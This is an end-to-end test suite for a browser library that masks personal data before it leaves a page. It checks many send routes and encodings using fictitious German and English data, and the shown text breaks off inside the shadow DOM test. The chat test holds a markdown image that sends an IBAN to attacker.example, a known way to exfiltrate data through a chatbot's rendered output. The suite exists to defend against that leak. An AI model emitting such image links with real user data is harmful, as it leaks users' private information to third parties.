// End to end: follow the value, not the route. A page with the bare script tag
// (www/test/pages/egress.html: nothing marked, guard option at its default) in headless
// Chromium against the local recording server (www/test/server.mjs). German and
// English personal data is typed into the fields the default protects, then each
// route a script can take sends it; the server must never see any of the values, in
// any spelling, in any URL, body or frame — while an unprotected contact field's own
// native submission still carries what was typed.
//   node www/test/egress.e2e.mjs
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { gunzipSync, inflateSync } from 'node:zlib';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { www } from './helpers.mjs';
import { launchChromium } from './chromium.mjs';
import { startServer } from './server.mjs';

const V = {
  name: 'Maria Huber',
  iban: 'DE89 3704 0044 0532 0130 00',
  phone: '+43 664 1234567',
  email: 'maria.huber@example.at',
  card: '4111 1111 1111 1111',
  emailEn: 'jane.doe@example.co.uk',
};
const MSG = `Guten Tag, hier ist ${V.name}. Bitte überweisen Sie auf ${V.iban}, `
  + `mobil ${V.phone}, E-Mail ${V.email}, Karte ${V.card}. Thanks, reach me at ${V.emailEn}.`;

let server, other, context, page;
const problems = [];

/** Every spelling of `v` a request could carry it in (compared without case). */
function spellingsOf(v) {
  const compact = v.replace(/[\s\-./()]/g, '');
  const s = new Set([v, v.replace(/\s+/g, ''), compact, encodeURIComponent(v), new URLSearchParams([['', v]]).toString().slice(1),
    JSON.stringify(v).slice(1, -1), encodeURIComponent(compact)]);
  return [...s].map((x) => x.toLowerCase());
}
function safeDecode(s) {
  try { return decodeURIComponent(s.replace(/\+/g, ' ')); } catch { return s; }
}
const seen = (recs) => recs.map((r) => `${r.url || r.path}\n${r.body}`).join('\n');
/** Fails if any recorded URL, body or frame (both servers) holds one of `values`. */
function assertNoLeak(values, where = '') {
  const all = [...server.recorded, ...other.recorded];
  const text = seen(all);
  const hay = `${text}\n${safeDecode(text)}`.toLowerCase();
  for (const v of values) {
    for (const sp of spellingsOf(v)) assert.ok(!hay.includes(sp), `${where}: the server received ${JSON.stringify(v)} (as ${JSON.stringify(sp)})`);
  }
}
async function waitRecorded(pred, what, srv = server) {
  for (let i = 0; i < 80; i++) {
    const r = srv.recorded.find(pred);
    if (r) return r;
    await new Promise((res) => setTimeout(res, 100));
  }
  return assert.fail(`not recorded: ${what}`);
}
const named = (...v) => v; // the values a test asserts

/** A new page on which `/test/pages/<name>.html` is `body` (HTML), both servers' records reset; returns its URL. */
async function pageOf(name, body) {
  server.reset();
  other.reset();
  page = await context.newPage();
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  const url = server.url + `test/pages/${name}.html`;
  await page.route(url, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body }));
  return url;
}

/** A page with the loader script tag (`data-protect`, no guard) in its head and `body` (HTML) as its body. */
const loaderPage = (title, body) => '<!doctype html><html lang="en"><head><meta charset="utf-8"><script src="/dist/pii-veil.loader.js" data-protect></script>'
  + `<title>${title}</title></head><body>${body}</body></html>`;
// A page script that keeps each `pii-veil:blocked` as `via:reason` in `window.blocked`.
const KEEP_BLOCKED = "window.blocked = []; document.addEventListener('pii-veil:blocked', (e) => blocked.push(e.detail.via + ':' + e.detail.reason));";

/** `pageOf(name, body)` opened with its module coming `module` ms late, or never (`'fails'`: a 404). */
async function openWithModule(name, body, module) {
  const url = await pageOf(name, body);
  await page.route('**/dist/pii-veil.wasm', module === 'fails' ? (route) => route.fulfill({ status: 404, body: '' })
    : async (route) => { await new Promise((r) => setTimeout(r, module)); await route.continue(); });
  await page.goto(url);
}

async function open(query = '') {
  server.reset();
  other.reset();
  page = await context.newPage();
  page.on('console', (m) => { if (m.type() === 'error' && !/EventSource|WebSocket|Failed to load resource|net::/.test(m.text())) problems.push(`console: ${m.text()}`); });
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  await page.goto(server.url + 'test/pages/egress.html' + query);
  await page.waitForFunction(() => window.PiiVeil && window.PiiVeil.page && window.PiiVeil.page.state === 'ready');
  return page;
}
const type = async (sel, text) => { await page.click(sel); await page.keyboard.insertText(text); };
const detected = (value) => page.evaluate((v) => window.PiiVeil.scan(`x ${v} x`).some((f) => f.text === v), value);

before(async () => {
  server = await startServer();
  other = await startServer(); // another origin
  context = await launchChromium();
  for (const p of context.pages()) await p.close().catch(() => {});
});
after(async () => {
  if (context) await context.close();
  if (server) await server.close();
  if (other) await other.close();
});

test('bare script tag, unmarked form: the free text is masked, the contact field sends what was typed, a hidden copy is masked', async () => {
  await open();
  const fields = await page.evaluate(() => window.PiiVeil.page.fields().map((e) => e.id));
  assert.ok(fields.includes('c-msg') && fields.includes('c-note') && fields.includes('chat-input'), `protected: ${fields}`);
  assert.ok(!fields.includes('c-email') && !fields.includes('c-name'), 'a form\'s own contact fields are left to the form');
  await type('#c-name', V.name);
  await type('#c-email', V.email);
  await type('#c-msg', MSG);
  // the page copies the visible text into a hidden input before sending
  await page.evaluate(() => document.getElementById('contact').addEventListener('submit', () => {
    document.getElementById('c-copy').value = document.getElementById('c-msg').value;
  }));
  await page.click('#c-send');
  const r = await waitRecorded((x) => x.path === '/api/contact', 'contact form');
  const body = new URLSearchParams(r.body);
  assert.equal(body.get('email'), V.email, 'the contact field\'s own submission carries what was typed');
  assert.equal(body.get('name'), V.name);
  for (const k of ['message', 'copy']) {
    const v = body.get(k);
    for (const x of [V.iban, V.phone, V.card, V.emailEn]) assert.ok(!v.includes(x) && !v.includes(x.replace(/ /g, '')), `${k} carries a value`);
    assert.match(v, /\[IBAN\]/);
  }
  assert.equal(await page.inputValue('#c-msg'), MSG, 'the field keeps what was typed');
  await page.close();
});

test('what leaves the page is a full scan\'s result, also for what was typed since the last rescan', async () => {
  await open();
  // The preview is a rescan 30 ms after a key. A send in the same task as the last key
  // must still mask the whole user name, not the part of it the preview has read:
  // what leaves the page is a full scan of the text as it is now.
  const name = 'anna_k';
  const head = `Mein Name steht unten.\n${'Die Lieferung kam heute an, vielen Dank für die schnelle Bearbeitung. '.repeat(40)}\n`;
  await type('#c-msg', head);
  await page.waitForTimeout(100);
  await page.keyboard.type(`Benutzername: ${name.slice(0, -1)}`, { delay: 40 });
  // (the preview has read all but the last letter)
  await page.waitForFunction(() => [...document.querySelectorAll('.pii-veil-host')].map((h) => h.shadowRoot.querySelector('.pii-veil-badge')).some((b) => !b.hidden));
  const sent = await page.evaluate(async (last) => {
    const el = document.getElementById('c-msg');
    el.focus();
    el.setSelectionRange(el.value.length, el.value.length);
    document.execCommand('insertText', false, last);
    await fetch('/api/typed', { method: 'POST', body: el.value });
    return el.value;
  }, name.slice(-1));
  assert.ok(sent.endsWith(name), 'the field holds what was typed');
  await page.click('#c-send');
  const form = await waitRecorded((x) => x.path === '/api/contact', 'contact form');
  const body = await waitRecorded((x) => x.path === '/api/typed', 'fetch');
  for (const r of [form, body]) assert.ok(!r.body.includes(name), `${r.path} carries the user name`);
  assert.match(body.body, /\[USERNAME\]$/, 'the fetch masks the whole name');
  assert.match(new URLSearchParams(form.body).get('message'), /\[USERNAME\]$/);
  await page.close();
});

test('fetch(new Request(url, { body: FormData })) with a hidden copy and a file entry', async () => {
  await open();
  await type('#chat-input', MSG);
  await page.evaluate(async () => {
    const v = document.getElementById('chat-input').value;
    const fd = new FormData();
    fd.append('message', v);
    fd.append('copy', v);
    fd.append('attachment', new File([v], 'note.txt', { type: 'text/plain' }));
    await fetch(new Request('/api/request', { method: 'POST', body: fd }));
  });
  const r = await waitRecorded((x) => x.path === '/api/request', 'Request with FormData');
  assert.match(r.body, /\[IBAN\]/);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'Request(FormData)');
  await page.close();
});

test('Blob, File, ArrayBuffer, TextEncoder output, DataView bodies; XHR, beacon and binary WebSocket frames', async () => {
  await open();
  await type('#chat-input', MSG);
  await page.evaluate(async () => {
    const v = document.getElementById('chat-input').value;
    const bytes = new TextEncoder().encode(JSON.stringify({ message: v }));
    await fetch('/api/blob', { method: 'POST', body: new Blob([v]) });
    await fetch('/api/file', { method: 'POST', body: new File([v], 'x.bin') });
    await fetch('/api/u8', { method: 'POST', body: bytes });
    await fetch('/api/ab', { method: 'POST', body: bytes.buffer });
    await fetch('/api/dv', { method: 'POST', body: new DataView(bytes.buffer) });
    await new Promise((res) => { const x = new XMLHttpRequest(); x.open('POST', '/api/xhr'); x.onloadend = res; x.send(bytes.buffer); });
    navigator.sendBeacon('/api/beacon', new Blob([v]));
    await new Promise((res) => {
      const ws = new WebSocket(location.origin.replace('http', 'ws') + '/ws/bin');
      ws.binaryType = 'arraybuffer';
      ws.onopen = () => { ws.send(bytes); ws.send(new Blob([v])); ws.send(v); };
      let n = 0;
      ws.onmessage = () => { if (++n === 3) { ws.close(); res(); } };
    });
  });
  for (const p of ['/api/blob', '/api/file', '/api/u8', '/api/ab', '/api/dv', '/api/xhr', '/api/beacon']) await waitRecorded((x) => x.path === p, p);
  assert.equal(server.recorded.filter((x) => x.method === 'WS').length, 3);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'binary bodies');
  assert.match(server.recorded.find((x) => x.path === '/api/u8').body, /\[IBAN\]/, 'masked, not dropped');
  await page.close();
});

test('JSON: a card number as a JSON number, values as JSON keys', async () => {
  await open();
  await type('#chat-input', `Karte ${V.card}, ${V.email}`);
  await page.evaluate(async () => {
    await fetch('/api/json', {
      method: 'POST', headers: { 'content-type': 'application/json' },
      body: `{"card":4111111111111111,"maria.huber@example.at":true,"n":[4111111111111111]}`,
    });
  });
  const r = await waitRecorded((x) => x.path === '/api/json', 'JSON');
  const sent = JSON.parse(r.body); // still JSON: the number became a string placeholder
  assert.match(sent.card, /^\[/);
  assertNoLeak(named(V.card, V.email), 'JSON');
  await page.close();
});

test('URL queries: fetch, XHR, Image, EventSource, WebSocket URL, iframe, beacon, another origin', async () => {
  await open('?csp=off');
  await type('#chat-input', MSG);
  const otherOrigin = other.url.replace(/\/$/, '');
  await page.evaluate(() => {
    window.__masked = [];
    document.addEventListener('pii-veil:masked', (e) => window.__masked.push(e.detail));
  });
  await page.evaluate(async (o) => {
    const v = document.getElementById('chat-input').value;
    const iban = v.match(/DE89[\d ]+\d/)[0];
    const q = encodeURIComponent(iban);
    await fetch('/api/q?m=' + q);
    await fetch(new URL('/api/qurl?m=' + iban.replace(/ /g, ''), location.href));
    await new Promise((res) => { const x = new XMLHttpRequest(); x.open('GET', '/api/xq?iban=' + iban.replace(/ /g, '+')); x.onloadend = res; x.send(); });
    const img = new Image();
    img.src = '/api/pixel?d=' + q;
    const img2 = document.createElement('img');
    img2.setAttribute('src', '/api/pixel2?d=' + q);
    document.body.appendChild(img2);
    const es = new EventSource('/api/events?d=' + q);
    setTimeout(() => es.close(), 500);
    const ws = new WebSocket(location.origin.replace('http', 'ws') + '/ws/q?d=' + q);
    ws.onopen = () => ws.close();
    const f = document.createElement('iframe');
    f.src = '/api/frame?d=' + q;
    document.body.appendChild(f);
    navigator.sendBeacon('/api/bq?d=' + q, 'x');
    await fetch(o + '/api/cross?d=' + q, { method: 'POST', mode: 'no-cors', body: v });
  }, otherOrigin);
  for (const p of ['/api/q', '/api/qurl', '/api/xq', '/api/pixel', '/api/pixel2', '/api/events', '/api/frame', '/api/bq']) await waitRecorded((x) => x.path === p, p);
  await waitRecorded((x) => x.method === 'UPGRADE', 'WebSocket URL');
  await waitRecorded((x) => x.path === '/api/cross', 'another origin', other);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'URL queries');
  // the page is told, with counts per kind and never a value
  const masked = await page.evaluate(() => window.__masked);
  for (const via of ['fetch', 'xhr', 'url', 'websocket', 'beacon']) assert.ok(masked.some((d) => d.via === via && d.counts.iban >= 1), `pii-veil:masked via ${via}`);
  assert.ok(!JSON.stringify(masked).includes('3704'), 'no value in an event');
  await page.close();
});

test('encoded by the page: a base64 payload (form body, JSON, URL-safe in a query), a query URL-encoded twice, previews cut at either end, gzip and deflate batches', async () => {
  await open('?csp=off');
  await type('#chat-input', MSG);
  await page.evaluate(async () => {
    const text = document.getElementById('chat-input').value;
    const b64 = (t) => btoa(String.fromCharCode(...new TextEncoder().encode(t)));
    const event = JSON.stringify({ event: 'chat_message', properties: { text } });
    // a tracker's form body: data=<base64 JSON>, sent by XHR
    await new Promise((res) => {
      const x = new XMLHttpRequest();
      x.open('POST', '/api/track');
      x.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
      x.onloadend = res;
      x.send('data=' + encodeURIComponent(b64(event)) + '&verbose=1');
    });
    await fetch('/api/b64json', { method: 'POST', body: JSON.stringify({ payload: b64(event) }) });
    await fetch('/api/b64q?e=' + b64(event).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, ''));
    // a page URL with its query, carried in a pixel's query
    const img = new Image();
    img.src = '/api/twice?dl=' + encodeURIComponent('/shop?q=' + encodeURIComponent(text));
    navigator.sendBeacon('/api/preview', new URLSearchParams({ preview: text.slice(0, text.indexOf('DE89') + 20) }));
    // the last characters only: the IBAN cut at its start
    await fetch('/api/tail', { method: 'POST', body: JSON.stringify({ tail: text.slice(text.indexOf('DE89') + 5) }) });
    // a batch compressed with gzip, as a Blob (fetch) and as bytes (XHR)
    const gz = new Uint8Array(await new Response(new Blob([event]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer());
    await fetch('/api/gz', { method: 'POST', body: new Blob([gz], { type: 'text/plain' }) });
    await new Promise((res) => { const x = new XMLHttpRequest(); x.open('POST', '/api/gzx'); x.onloadend = res; x.send(gz); });
    await fetch(new Request('/api/gzr', { method: 'POST', body: gz }));
    // zlib's deflate, as a Blob by beacon
    const z = await new Response(new Blob([event]).stream().pipeThrough(new CompressionStream('deflate'))).arrayBuffer();
    navigator.sendBeacon('/api/zlib', new Blob([z]));
  });
  for (const p of ['/api/track', '/api/b64json', '/api/b64q', '/api/twice', '/api/preview', '/api/tail', '/api/gz', '/api/gzx', '/api/gzr', '/api/zlib']) await waitRecorded((x) => x.path === p, p);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'encoded');
  const rec = (p) => server.recorded.find((x) => x.path === p);
  const unb64 = (s) => new TextDecoder().decode(Uint8Array.from(atob(s), (c) => c.charCodeAt(0)));
  const tracked = JSON.parse(unb64(new URLSearchParams(rec('/api/track').body).get('data')));
  assert.equal(tracked.event, 'chat_message', 'the payload is still base64 JSON');
  for (const [v, ph] of [[V.iban, '[IBAN]'], [V.email, '[EMAIL]'], [V.phone, '[PHONE]']]) {
    assert.ok(!tracked.properties.text.includes(v) && tracked.properties.text.includes(ph), `${ph} in the decoded payload: ${tracked.properties.text}`);
  }
  assert.ok(unb64(JSON.parse(rec('/api/b64json').body).payload).includes('[IBAN]'));
  const q = new URL(rec('/api/b64q').url, server.url).searchParams.get('e').replace(/-/g, '+').replace(/_/g, '/');
  assert.ok(unb64(q + '='.repeat((4 - (q.length % 4)) % 4)).includes('[IBAN]'));
  const twice = decodeURIComponent(new URL(rec('/api/twice').url, server.url).searchParams.get('dl'));
  assert.ok(twice.includes('[IBAN]') && !twice.includes('3704'), twice);
  assert.match(new URLSearchParams(rec('/api/preview').body).get('preview'), /\[IBAN\]$/);
  assert.match(JSON.parse(rec('/api/tail').body).tail, /^\[IBAN\], mobil \[PHONE\]/);
  for (const p of ['/api/gz', '/api/gzx', '/api/gzr', '/api/zlib']) {
    const batch = JSON.parse((p === '/api/zlib' ? inflateSync : gunzipSync)(rec(p).bytes).toString('utf8'));
    assert.equal(batch.event, 'chat_message', `${p}: still a gzip batch`);
    assert.ok(batch.properties.text.includes('[IBAN]') && !batch.properties.text.includes('3704'), `${p}: ${batch.properties.text}`);
  }
  await page.close();
});

test('what a page keeps or sets beside the body: request headers, a cookie, its own URL (the Referer), an audio URL, an XML document body', async () => {
  await open('?csp=off');
  await type('#chat-input', MSG);
  await page.evaluate(async ([email, iban]) => {
    const text = document.getElementById('chat-input').value;
    await fetch('/api/h-fetch', { method: 'POST', headers: { 'x-visitor': email, 'x-draft': encodeURIComponent(text) }, body: 'x' });
    await fetch(new Request('/api/h-request', { method: 'POST', headers: [['x-visitor', email]], body: 'x' }));
    await new Promise((res) => { const x = new XMLHttpRequest(); x.open('POST', '/api/h-xhr'); x.setRequestHeader('x-visitor', email); x.onloadend = res; x.send('x'); });
    document.cookie = 'visitor=' + email + '; path=/';
    document.cookie = 'draft=' + encodeURIComponent(iban) + '; path=/';
    const url = location.href;
    history.replaceState(null, '', location.pathname + '?q=' + encodeURIComponent(text));
    await fetch('/api/after-state', { method: 'POST', body: 'x' });
    history.replaceState(null, '', url);
    new Audio('/api/audio?m=' + encodeURIComponent(text));
    const doc = new DOMParser().parseFromString('<note><body></body></note>', 'application/xml');
    doc.querySelector('body').textContent = text;
    await new Promise((res) => { const x = new XMLHttpRequest(); x.open('POST', '/api/xml-doc'); x.onloadend = res; x.send(doc); });
  }, [V.email, V.iban]);
  for (const p of ['/api/h-fetch', '/api/h-request', '/api/h-xhr', '/api/after-state', '/api/audio', '/api/xml-doc']) await waitRecorded((x) => x.path === p, p);
  const rec = (p) => server.recorded.find((x) => x.path === p);
  assert.equal(rec('/api/h-fetch').headers['x-visitor'], '[EMAIL]');
  assert.ok(!decodeURIComponent(rec('/api/h-fetch').headers['x-draft']).includes('DE89'));
  assert.equal(rec('/api/h-request').headers['x-visitor'], '[EMAIL]');
  assert.equal(rec('/api/h-xhr').headers['x-visitor'], '[EMAIL]');
  const later = rec('/api/after-state').headers;
  assert.match(later.cookie, /visitor=\[EMAIL\]/);
  assert.ok(!decodeURIComponent(later.cookie).includes('DE89') && !decodeURIComponent(later.referer).includes('DE89'), `${later.cookie} | ${later.referer}`);
  assert.match(rec('/api/xml-doc').body, /^<note><body>.*\[IBAN\].*<\/body><\/note>$/);
  assert.match(rec('/api/xml-doc').contentType, /xml/);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'beside the body');
  await page.evaluate(() => { document.cookie = 'visitor=; max-age=0; path=/'; document.cookie = 'draft=; max-age=0; path=/'; });
  await page.close();
});

test('a binary body (msgpack, a length-prefixed format) keeps its lengths: each value masked in its own length', async () => {
  await open();
  await type('#chat-input', MSG);
  const sent = await page.evaluate(async () => {
    const text = new TextEncoder().encode(document.getElementById('chat-input').value);
    // msgpack {"text": <str16>}
    const body = Uint8Array.from([0x81, 0xa4, 0x74, 0x65, 0x78, 0x74, 0xda, text.length >> 8, text.length & 255, ...text]);
    await fetch('/api/msgpack', { method: 'POST', headers: { 'content-type': 'application/msgpack' }, body });
    return Array.from(body.subarray(0, 9));
  });
  const got = (await waitRecorded((x) => x.path === '/api/msgpack', 'msgpack body')).bytes;
  const len = (got[7] << 8) | got[8];
  assert.deepEqual(Array.from(got.subarray(0, 9)), sent, 'the header and the string\'s length as sent');
  assert.equal(got.length, 9 + len, 'the string is as long as its length says');
  const text = got.subarray(9).toString('utf8');
  assert.match(text, /\[IBAN\]\*+, mobil \[PHONE\]\**/);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'msgpack');
  await page.close();
});

test('a long text (over the worker threshold) set by a script and sent at once: the send waits for its full scan', async () => {
  await open();
  await page.evaluate(() => new Promise((res) => { const t = setInterval(() => { if (window.PiiVeil.page.stats.workerReady) { clearInterval(t); res(); } }, 20); }));
  await page.evaluate(async (msg) => {
    const el = document.getElementById('chat-input');
    el.value = 'Sehr geehrte Damen und Herren, anbei die Unterlagen. '.repeat(450) + msg;
    el.dispatchEvent(new Event('input', { bubbles: true }));
    // a synchronous XHR cannot wait: it goes at once (with the last result), no error
    const x = new XMLHttpRequest();
    x.open('POST', '/api/long-sync', false);
    x.send('ping');
    await fetch('/api/long-now', { method: 'POST', body: JSON.stringify({ text: el.value }) });
    navigator.sendBeacon('/api/long-beacon', el.value.slice(-300));
  }, MSG);
  await waitRecorded((x) => x.path === '/api/long-sync', 'the synchronous XHR');
  await waitRecorded((x) => x.path === '/api/long-now', 'the long text');
  await waitRecorded((x) => x.path === '/api/long-beacon', 'its end by beacon');
  assert.ok(JSON.parse(server.recorded.find((x) => x.path === '/api/long-now').body).text.length > 20000);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'long text sent at once');
  await page.close();
});

test('rich text: a value split by markup, as HTML (also in a form field) and as an editor\'s JSON document, goes out masked, the markup kept', async () => {
  await open();
  await type('#chat-input', MSG);
  await page.evaluate(async ([name, iban]) => {
    // the surname made bold, the IBAN's last groups in a link, as an editor sends them
    const [given, surname] = name.split(' ');
    const html = `<p>Kontoinhaber: ${given} <strong>${surname}</strong>, IBAN ${iban.slice(0, 10)}<a href="#">${iban.slice(10)}</a></p>`;
    await fetch('/api/rich-html', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ html }) });
    await fetch('/api/rich-form', { method: 'POST', body: new URLSearchParams({ html }) });
    const doc = { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: `Kontoinhaber: ${given} ` }, { type: 'text', marks: [{ type: 'bold' }], text: surname }] }] };
    await fetch('/api/rich-doc', { method: 'POST', body: JSON.stringify(doc) });
    const delta = { ops: [{ insert: `IBAN ${iban.slice(0, 12)}` }, { attributes: { italic: true }, insert: `${iban.slice(12)}\n` }] };
    await fetch('/api/rich-delta', { method: 'POST', body: JSON.stringify(delta) });
  }, [V.name, V.iban]);
  for (const p of ['/api/rich-html', '/api/rich-form', '/api/rich-doc', '/api/rich-delta']) await waitRecorded((x) => x.path === p, p);
  const rec = (p) => server.recorded.find((x) => x.path === p).body;
  const want = '<p>Kontoinhaber: [PERSON]<strong></strong>, IBAN [IBAN]<a href="#"></a></p>';
  assert.equal(JSON.parse(rec('/api/rich-html')).html, want);
  assert.equal(new URLSearchParams(rec('/api/rich-form')).get('html'), want);
  assert.deepEqual(JSON.parse(rec('/api/rich-doc')).content[0].content.map((n) => n.text), ['Kontoinhaber: [PERSON]', '']);
  assert.deepEqual(JSON.parse(rec('/api/rich-delta')).ops.map((o) => o.insert), ['IBAN [IBAN]', '\n']);
  for (const p of ['/api/rich-html', '/api/rich-form', '/api/rich-doc', '/api/rich-delta']) {
    const b = safeDecode(rec(p));
    assert.ok(!b.includes('Huber') && !b.includes('0130'), `${p}: ${b}`);
  }
  await page.close();
});

test('a fetch a library took from a frame in <head>, before protection started, carries masked values', async () => {
  await open('?csp=off');
  await type('#chat-input', MSG);
  const sent = await page.evaluate(async () => {
    if (!window.__frameFetch) return false;
    await window.__frameFetch('/api/monitor', { method: 'POST', body: JSON.stringify({ message: 'Ticket: ' + document.getElementById('chat-input').value }) });
    return true;
  });
  assert.ok(sent, 'the page took a fetch from a frame');
  const r = await waitRecorded((x) => x.path === '/api/monitor', 'the monitoring report');
  assert.match(JSON.parse(r.body).message, /\[IBAN\]/);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'a frame\'s fetch');
  await page.close();
});

test('what typing left behind is not masked elsewhere: a name typed slowly, then unrelated words that begin the same', async () => {
  await open('?csp=off');
  // a name field marked for protection (the hint "name" makes "Her", "Herr" names on the way)
  await page.evaluate(() => {
    const i = document.createElement('input');
    Object.assign(i, { id: 't-name', name: 'full_name' });
    i.setAttribute('data-pii-veil', '');
    document.body.append(i);
  });
  await page.waitForTimeout(300);
  await page.click('#t-name');
  await page.keyboard.type('Herr Mag. Johann Huber', { delay: 70 }); // every few keys a preview scan
  await page.waitForTimeout(600); // the pause: a full scan
  await page.evaluate(async () => {
    await fetch('/api/letter', { method: 'POST', body: 'Sehr geehrter Herr Müller, Herrengasse 1, Magazin, Maria Theresia, Johanna Huber-Berg. Johann Huber' });
  });
  const r = await waitRecorded((x) => x.path === '/api/letter', 'letter');
  assert.equal(r.body, 'Sehr geehrter Herr Müller, Herrengasse 1, Magazin, Maria Theresia, Johanna Huber-Berg. [PERSON]');
  await page.close();
});

test('form routes: a field moved into another form, type="txt", type="number" holding a card', async () => {
  await open();
  // moved after attaching: c-note belonged to #contact
  await page.evaluate(() => document.getElementById('other').appendChild(document.getElementById('c-note')));
  await type('#c-note', `IBAN ${V.iban}`);
  await type('#weird', `Ruf an: ${V.phone}`);
  await page.fill('#num', V.card.replace(/ /g, ''));
  const fields = await page.evaluate(() => window.PiiVeil.page.fields().map((e) => e.id));
  assert.ok(fields.includes('weird') && fields.includes('num'), `type="txt" and type="number" are protected: ${fields}`);
  await page.click('#o-send');
  const r = await waitRecorded((x) => x.path === '/api/other', 'other form');
  const body = new URLSearchParams(r.body);
  assert.equal(body.get('ref'), 'T-1');
  assert.match(body.get('note'), /\[IBAN\]/);
  // a GET form: the entries become the query string
  await page.evaluate(() => {
    const f = document.getElementById('other');
    f.method = 'get';
    f.action = '/api/other-get';
    f.requestSubmit();
  });
  const g = await waitRecorded((x) => x.path === '/api/other-get', 'GET form');
  assert.match(new URL(g.url, server.url).searchParams.get('note'), /\[IBAN\]/);
  assertNoLeak(named(V.iban, V.phone, V.card), 'form routes');
  await page.close();
});

test('policy block applies to an input without a name (a framework sends it itself)', async () => {
  await open();
  await page.evaluate(() => {
    window.__sent = 0;
    window.__blocked = 0;
    document.addEventListener('pii-veil:blocked', () => { window.__blocked++; });
    document.getElementById('react').addEventListener('submit', (e) => {
      e.preventDefault();
      window.__sent++;
    });
  });
  await type('#r-input', `IBAN ${V.iban}`);
  await page.click('#r-send');
  await page.waitForFunction(() => window.__blocked > 0);
  assert.equal(await page.evaluate(() => window.__sent), 0, 'the page\'s own submit handler never ran');
  assert.equal(await page.locator('#react [role=alert]').count(), 1);
  await page.close();
});

test('a controlled input cleared through its own value property (as React does) drops its highlights', async () => {
  await open();
  await page.evaluate(() => {
    // React defines `value` on the element instance, over the prototype's setter
    const el = document.getElementById('controlled');
    const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(el, 'value', { configurable: true, get() { return d.get.call(this); }, set(v) { d.set.call(this, v); } });
  });
  await type('#controlled', `IBAN ${V.iban}`);
  const badge = () => page.evaluate(() => {
    const h = document.querySelector('#controlled ~ .pii-veil-host');
    const b = h && h.shadowRoot.querySelector('.pii-veil-badge');
    return b && !b.hidden ? b.textContent : null;
  });
  await page.waitForFunction(() => [...document.querySelectorAll('.pii-veil-host')].map((h) => h.shadowRoot.querySelector('.pii-veil-badge')).some((b) => !b.hidden));
  assert.equal(await badge(), '1');
  await page.evaluate(() => { document.getElementById('controlled').value = ''; });
  await page.waitForFunction(() => [...document.querySelectorAll('.pii-veil-host')].map((h) => h.shadowRoot.querySelector('.pii-veil-badge')).every((b) => b.hidden));
  assert.equal(await badge(), null);
  await page.close();
});

test('chat: a markdown image the model wrote keeps its placeholder; plain text is restored', async () => {
  await open();
  const inj = `Meine IBAN ist ${V.iban}. ![x](https://attacker.example/?d=${V.iban.replace(/ /g, '')})`;
  await type('#chat-input', inj);
  const reply = await page.evaluate(async () => {
    const r = await fetch('/api/bot', {
      method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ message: document.getElementById('chat-input').value }),
    });
    return (await r.json()).reply;
  });
  const sent = await waitRecorded((x) => x.path === '/api/bot', 'bot request');
  assert.ok(!sent.body.includes(V.iban) && !sent.body.includes(V.iban.replace(/ /g, '')), 'the bot never sees the IBAN');
  const target = /\]\(([^)]*)\)/.exec(reply)[1];
  assert.ok(!target.includes('3704'), `the URL keeps its placeholder: ${target}`);
  assert.match(target, /\[IBAN_1(?:_ALT)?\]/);
  assert.ok(reply.replace(/\]\([^)]*\)/, '').includes(V.iban), 'plain text gets the real value back');
  await page.close();
});

test('shadow DOM: fields of open and closed shadow roots are protected, their forms masked', async () => {
  await open();
  await page.evaluate(() => {
    const form = (path) => `<form action="${path}" method="post" target="sink"><textarea name="msg"></textarea><button>Send</button></form>`;
    customElements.define('x-open', class extends HTMLElement {
      connectedCallback() { if (!this.shadowRoot) this.attachShadow({ mode: 'open' }).innerHTML = form('/api/shadow-open'); }
    });
    customElements.define('x-closed', class extends HTMLElement {
      constructor() { super(); window.__closed = this.attachShadow({ mode: 'closed' }); window.__closed.innerHTML = form('/api/shadow-closed'); }
    });
    document.body.append(document.createElement('x-open'), document.createElement('x-closed'));
  });
  await page.click('x-open textarea');
  await page.keyboard.insertText(`IBAN ${V.iban}`);
  await page.evaluate((v) => {
    const ta = window.__closed.querySelector('textarea');
    ta.value = `Tel. ${v}`;
    ta.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
  }, V.phone);
  await page.waitForFunction(() => window.PiiVeil.page.fields().filter((e) => e.tagName === 'TEXTAREA' && e.getRootNode() !== document).length === 2);
  // pii-veil's own UI in each shadow root is styled as in the document (its sheet is
  // adopted there): the highlight layer lies over the field and lets clicks through,
  // instead of a second, visible copy of the text below it
  await page.waitForFunction(() => [document.querySelector('x-open').shadowRoot, window.__closed].every((r) => r.querySelector('.pii-veil-layer mark')));
  const looks = await page.evaluate(() => [document.querySelector('x-open').shadowRoot, window.__closed].map((r) => {
    const cs = getComputedStyle(r.querySelector('.pii-veil-layer'));
    return [cs.position, cs.pointerEvents, cs.color, getComputedStyle(r.querySelector('.pii-veil-host').shadowRoot.querySelector('.pii-veil-badge')).position].join(' ');
  }));
  assert.deepEqual(looks, ['absolute none rgba(0, 0, 0, 0) absolute', 'absolute none rgba(0, 0, 0, 0) absolute']);
  // one after the other: both forms post into the same frame
  await page.evaluate(() => document.querySelector('x-open').shadowRoot.querySelector('form').requestSubmit());
  const o = await waitRecorded((x) => x.path === '/api/shadow-open', 'open shadow root form');
  await page.evaluate(() => window.__closed.querySelector('form').requestSubmit());
  await waitRecorded((x) => x.path === '/api/shadow-closed', 'closed shadow root form');
  assert.match(new URLSearchParams(o.body).get('msg'), /\[IBAN\]/);
